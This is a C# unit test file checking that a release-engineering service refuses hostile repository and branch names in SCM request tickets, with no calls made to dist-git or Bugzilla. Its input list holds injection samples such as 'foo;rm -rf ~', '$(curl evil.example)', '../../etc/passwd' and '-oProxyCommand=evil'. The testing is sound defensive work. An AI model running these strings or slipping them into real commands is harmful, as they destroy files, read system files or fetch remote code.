using Releng.Jobs.ScmRequests;
using Releng.Jobs.Services;

namespace Releng.Jobs.Tests.ScmRequests;

/// <summary>Ticket text is untrusted: bad names are refused before any URL, git command or API call is built from them.</summary>
public sealed class ScmRequestsHostileInputTests
{
    private static readonly string[] Names =
    [
        "../../etc/passwd",
        "foo bar",
        "foo;rm -rf ~",
        "$(curl evil.example)",
        "foo`id`",
        "foo\nbar",
        "foo\r\n",
        "-oProxyCommand=evil",
        ".hidden",
        "+plus",
        new string('a', 200),
        "pâté",
        "пакет",
        "foo/bar",
        "foo%2F..",
        "",
    ];

    public static TheoryData<string> HostileNames => new(Names);

    [Theory]
    [MemberData(nameof(HostileNames))]
    public void Hostile_repository_name_is_refused_by_the_parser(string name)
    {
        var parsed = ScmRequestParser.Parse(Body("new_repo", name, "rawhide"));
        Assert.Null(parsed.Request);
        Assert.Equal(ScmMessages.InvalidRepositoryName, parsed.Problem);
    }

    [Theory]
    [MemberData(nameof(HostileNames))]
    public void Hostile_branch_name_is_refused_by_the_parser(string branch)
    {
        var parsed = ScmRequestParser.Parse(Body("new_branch", "nethack", branch));
        Assert.Null(parsed.Request);
        Assert.StartsWith("The branch name ", parsed.Problem, StringComparison.Ordinal);
        Assert.DoesNotContain('\n', parsed.Problem!);
    }

    [Fact]
    public async Task Hostile_tickets_are_closed_as_invalid_without_a_single_call_to_dist_git_or_bugzilla()
    {
        var tickets = string.Concat(Names.Select((name, index) => Ticket(7000 + index, name)));
        await using var sandbox = ScmStories.From($"""
            people:
              ada: {"{}"}
            pagure:
              projects:
                releng/fedora-scm-requests:
                  close_statuses: [Processed, Invalid, Denied]
                  issues:
            {tickets}
            """);

        var (plan, outcomes) = await sandbox.ApplyScmRequestsAsync();

        Assert.Equal(Names.Length * 2, plan.Decisions.Count);
        Assert.All(plan.Decisions, d => Assert.Equal("invalid", d.Action));
        Assert.Empty(sandbox.RequestPaths(ServiceName.DistGit));
        Assert.Empty(sandbox.RequestPaths(ServiceName.Bugzilla));
        Assert.DoesNotContain(outcomes, o => o.Status == Releng.Jobs.Planning.StepStatus.Failed);
        Assert.DoesNotContain(sandbox.RequestPaths(ServiceName.Pagure), url => url.Contains("etc", StringComparison.Ordinal) || url.Contains("evil", StringComparison.Ordinal));
    }

    private static string Ticket(int id, string name)
    {
        static string Yaml(string text) => System.Text.Json.JsonSerializer.Serialize(text);
        return $"""
                  - id: {id}
                    title: "New Repo"
                    author: ada
                    body: {Yaml(Body("new_repo", name, "rawhide"))}
                  - id: {id + 100}
                    title: "New Branch"
                    author: ada
                    body: {Yaml(Body("new_branch", "nethack", name))}

            """;
    }

    private static string Body(string action, string repo, string branch) =>
        "```\n" + System.Text.Json.JsonSerializer.Serialize(new Dictionary<string, object>
        {
            ["action"] = action, ["branch"] = branch, ["bug_id"] = 2400001, ["monitor"] = "monitoring",
            ["namespace"] = "rpms", ["repo"] = repo, ["exception"] = false,
        }) + "\n```";
}
